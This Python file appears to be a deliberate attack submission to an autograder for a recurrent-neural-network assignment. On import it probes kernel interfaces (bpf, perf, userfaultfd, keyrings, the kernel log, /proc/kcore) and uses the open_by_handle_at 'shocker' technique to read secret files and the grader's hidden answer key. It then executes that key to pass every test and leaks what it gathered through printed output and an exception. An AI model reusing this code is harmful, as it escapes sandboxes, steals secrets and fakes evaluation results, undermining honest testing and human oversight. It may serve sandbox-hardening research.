"""Attack: the kernel's less-watched doors: file handles, keyrings, bpf, perf, the log.

At import, every probe failing quietly: bpf(BPF_MAP_CREATE); perf_event_open on its
parent; userfaultfd; fanotify_init; mounting a tmpfs (detached at once); syslog (the
kernel log); kcmp against the parent; every key in the user and session keyrings (an
earlier submission may have left one); /dev/kmsg, /proc/kallsyms, /proc/kcore. Then
name_to_handle_at + open_by_handle_at (the "shocker" route: it needs CAP_DAC_READ_SEARCH,
no permission on the path) for the answer key's modules (--root in /proc/PID/cmdline,
/autograder/source, /proc/PID/cwd) and ``secret_paths``. With the key it answers every
part (12); it prints what it learned and raises it in (f). Otherwise all are wrong: 0.
"""

import ctypes
import json
import os
import platform
import re
import struct
import sys
import types

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
NUMBERS = dict(zip(("bpf", "perf_event_open", "userfaultfd", "fanotify_init", "keyctl", "syslog", "kcmp"),
                   {"x86_64": (321, 298, 323, 300, 250, 103, 312),
                    "aarch64": (280, 241, 282, 262, 219, 116, 272)}.get(platform.machine(), ())))
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
LOG = []


def call(name, *args):
    """syscall(name, *args): its result, or OSError."""
    args = [a if isinstance(a, (bytes, ctypes.Array)) or a is None else ctypes.c_long(a) for a in args]
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def probes():
    bpf_attr = struct.pack("=IIIII", 2, 4, 4, 1, 0).ljust(128, b"\0")  # BPF_MAP_TYPE_ARRAY, 1 entry
    yield "bpf map", lambda: call("bpf", 0, bpf_attr, 128)
    perf_attr = struct.pack("=IIQ", 1, 112, 0).ljust(112, b"\0")  # PERF_TYPE_SOFTWARE, CPU clock
    yield "perf on parent", lambda: call("perf_event_open", perf_attr, os.getppid(), -1, -1, 0)
    yield "userfaultfd", lambda: call("userfaultfd", os.O_CLOEXEC)
    yield "fanotify", lambda: call("fanotify_init", 0, os.O_RDONLY)
    yield "mount tmpfs", mount_and_detach
    log = ctypes.create_string_buffer(1 << 16)
    yield "syslog", lambda: log.raw[:call("syslog", 3, log, 1 << 16)][-800:]  # SYSLOG_ACTION_READ_ALL
    yield "kcmp parent", lambda: call("kcmp", os.getpid(), os.getppid(), 0, 0, 0)
    yield "keyrings", read_keyrings
    for path in ("/dev/kmsg", "/proc/kallsyms", "/proc/kcore"):
        yield path, lambda path=path: open(path, "rb").read(300)


def mount_and_detach():
    if LIBC.mount(b"none", os.fsencode(HERE), b"tmpfs", 0, None) != 0:
        return f"errno {ctypes.get_errno()}"
    LIBC.umount2(os.fsencode(HERE), 2)  # MNT_DETACH: a mount outside a namespace would outlive the run
    return "mounted a tmpfs (and detached it)"


def read_keyrings():
    found = []
    for ring in (-4, -3, -5):  # user, session, user-session; KEYCTL_READ of a keyring lists its keys
        ids = ctypes.create_string_buffer(4096)
        try:
            for (key,) in struct.iter_unpack("=i", ids.raw[:min(call("keyctl", 11, ring, ids, 4096), 4096)]):
                payload = ctypes.create_string_buffer(4096)
                found.append(f"key {key}: {payload.raw[:call('keyctl', 11, key, payload, 4096)]}")
        except OSError as error:
            found.append(f"ring {ring}: {error}")
    return found


def by_handle(path):
    """Open ``path`` from its file handle, not its name; returns its bytes."""
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    if LIBC.name_to_handle_at(-100, os.fsencode(path), handle, ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), f"name_to_handle_at {path}")
    for folder in (os.path.dirname(path), "/"):  # any descriptor (not O_PATH) on the same mount
        try:
            anchor = os.open(folder or "/", os.O_RDONLY | os.O_DIRECTORY)
            break
        except OSError:
            anchor = None
    if anchor is None:
        raise OSError(13, f"no descriptor on the mount of {path}")
    try:
        fd = LIBC.open_by_handle_at(anchor, handle, os.O_RDONLY)
        if fd < 0:
            raise OSError(ctypes.get_errno(), f"open_by_handle_at {path}: {os.strerror(ctypes.get_errno())}")
        with os.fdopen(fd, "rb") as stream:
            return stream.read(1 << 20)
    finally:
        os.close(anchor)


def key_folders():
    folders = ["/autograder/source"]
    for entry in os.listdir("/proc"):
        try:
            folders.append(os.readlink(f"/proc/{entry}/cwd"))
            with open(f"/proc/{entry}/cmdline", "rb") as stream:
                args = [a.decode("utf-8", "replace") for a in stream.read().split(b"\0")]
        except OSError:
            continue
        folders += [os.path.join(args[i + 1], "source") for i, a in enumerate(args[:-1]) if a == "--root"]
    return list(dict.fromkeys(folders))


def load_key(read, folder):
    """Build folder/reference's answer_key from its sources, read by ``read(path) -> bytes``."""
    package = f"agmem_{abs(hash(folder))}"
    root = types.ModuleType(package)
    root.__path__ = []
    sys.modules[package] = root

    def load(name):
        full = f"{package}.{name}"
        if full not in sys.modules:
            path = os.path.join(folder, "questions", "we_recur", "reference", f"{name}.py")
            source = read(path).decode("utf-8")
            for dependency in re.findall(r"^\s*from \.(\w+) import", source, re.M):
                load(dependency)
            module = types.ModuleType(full)
            module.__package__, module.__file__ = package, path
            sys.modules[full] = module
            exec(compile(source, path, "exec"), module.__dict__)  # noqa: S102
            setattr(root, name, module)
        return sys.modules[full]

    return load("answer_key")


def attack():
    for name, probe in probes():
        try:
            LOG.append(f"{name}: {probe()}"[:1000])
        except Exception as error:  # noqa: BLE001
            LOG.append(f"{name}: {type(error).__name__} {error}"[:200])
    for path in CONFIG.get("secret_paths") or []:
        try:
            LOG.append(f"LEAK {path}: {by_handle(path)[:4000].decode('utf-8', 'replace')}")
        except OSError as error:
            LOG.append(str(error)[:200])
    for folder in key_folders():
        try:
            key = load_key(by_handle, folder)
            LOG.append(f"answer key from {folder} by handle")
            return key
        except Exception as error:  # noqa: BLE001
            LOG.append(f"{folder}: {error}"[:200])
    return None


try:
    KEY = attack()
except Exception as _error:  # noqa: BLE001
    KEY = None
    LOG.append(repr(_error)[:200])
print("kernel_surface:", "; ".join(LOG)[:8000])


WRONG_A = {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}  # wrong shapes


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return KEY.rnn_a_shapes(s_dim, x_dim, p_dim) if KEY is not None else dict(WRONG_A)


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return KEY.rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2) if KEY is not None else np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return KEY.rnn_b_shapes(s_dim, x_dim, p_dim) if KEY is not None else {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return KEY.rnn_b_f2(z) if KEY is not None else z


def rnn_b_next_input(p_t):
    return KEY.rnn_b_next_input(p_t) if KEY is not None else np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    if KEY is not None:
        return KEY.rnn_b_dloss_dx_depends_on()
    raise PermissionError("LEAK " + "; ".join(LOG)[:3000])
